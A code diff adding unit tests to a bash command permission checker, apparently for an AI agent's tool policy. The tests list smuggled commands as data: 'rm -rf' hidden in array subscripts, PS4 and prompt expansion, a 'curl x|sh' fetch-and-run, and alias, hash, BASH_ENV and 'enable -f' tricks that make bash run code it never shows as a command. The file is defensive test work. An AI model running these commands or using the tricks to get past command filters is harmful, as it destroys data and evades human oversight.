@@ -107,6 +107,65 @@ describe("bash rules on parsed commands", () => {
       expect(decide(deny, command).action, command).toBe("ask");
   });
 
+  it("finds the commands in strings bash runs later: subscripts of names and arithmetic, PS4", () => {
+    for (const command of [
+      "printf -v 'a[$(rm -rf x)]' v",
+      "printf -v 'a[`rm -rf x`]' v",
+      "read 'a[$(rm -rf x)]' <<< v",
+      "declare 'a[$(rm -rf x)]=1'",
+      "declare -i n='a[$(rm -rf x)]'",
+      "declare -n r='a[$(rm -rf x)]'; echo $r",
+      "test -v 'a[$(rm -rf x)]'",
+      "[ -v 'a[$(rm -rf x)]' ]",
+      "[[ -v 'a[$(rm -rf x)]' ]]",
+      "let 'a[$(rm -rf x)]'",
+      "x='a[$(rm -rf x)]'; echo $((x))",
+      "x='a[$(rm -rf x)]'; [[ x -eq 1 ]]",
+      "PS4='$(rm -rf x)'; set -x; true",
+      "export PS4='+ `rm -rf x` '",
+    ])
+      expect(decide(deny, command), command).toMatchObject({ action: "deny", rule: "bash(rm *)" });
+    // an allow rule for a harmless-looking builtin does not allow what its subscript runs
+    const allow = policy({ allow: ["bash(printf *)", "bash(test *)", "bash([ *)", "bash(declare *)", "bash(let *)", "bash(git commit*)"] });
+    for (const command of ["printf -v 'a[$(curl x|sh)]' v", "test -v 'a[`id`]'", "[ -v 'a[$(id)]' ]", "declare 'a[$(id)]=1'", "let 'a[$(id)]'"])
+      expect(decide(allow, command).action, command).toBe("ask");
+    expect(decide(allow, "printf -v 'a[1]' '%s' v").action).toBe("allow");
+    expect(decide(allow, "git commit -m 'fix `foo` handling'").action).toBe("allow");
+    // text that only looks like it stays text
+    for (const command of [
+      "git commit -m '[docs] explain `x`'",
+      "grep -rn 'a\\[\\$(' src",
+      "echo $((1+2))",
+      "declare -A m=([a]=1); echo ${m[a]}",
+      "printf '%s' \"${!m[@]}\"",
+    ])
+      expect(decide(deny, command).action, command).toBe("ask");
+  });
+
+  it("fails closed on what makes bash run code it never shows as a command", () => {
+    for (const [command, part] of [
+      ["shopt -s expand_aliases\nalias ls='rm -rf x'\nls", "`alias NAME=…`"],
+      ["set -o posix\nalias r=rm\nr -rf x", "`alias NAME=…`"],
+      ["BASH_ALIASES[r]=rm", "`BASH_ALIASES` changes"],
+      ["hash -p /bin/rm ls; ls -rf x", "`hash -p`"],
+      ["BASH_CMDS[ls]=/bin/rm; ls x", "`BASH_CMDS` changes"],
+      ["BASH_ENV=./setup.sh bash -c true", "`BASH_ENV` makes"],
+      ["env BASH_ENV=./setup.sh bash -c true", "`BASH_ENV` makes"],
+      ["export BASH_ENV=./setup.sh; bash -c true", "`BASH_ENV` makes"],
+      ["mapfile -C 'rm -rf x #' -c 1 < list", "`mapfile -C` runs a callback"],
+      ["enable -f ./evil.so evil", "`enable -f` loads"],
+      ["printf -v PS4 '%s(rm -rf x)' '$'; set -x; true", "a `PS4` that is not literal"],
+      ["x='$(rm -rf x)'; echo ${x@P}", "expands a value as a prompt"],
+      ["x=y; echo ${!x}", "expands the variable its value names"],
+    ] as const) {
+      const d = decide(deny, command);
+      expect(d.action, command).toBe("deny");
+      expect(d.reason, command).toContain(part);
+    }
+    for (const command of ["alias", "alias -p", "hash -r", "mapfile -t lines < f", "echo PS4", "grep -r BASH_ENV ."])
+      expect(decide(deny, command).action, command).toBe("ask");
+  });
+
   it("fails closed: with a deny rule, a part keel cannot resolve statically is denied, naming it", () => {
     for (const [command, part] of [
       ["$CMD -rf x", "command name `$CMD`"],
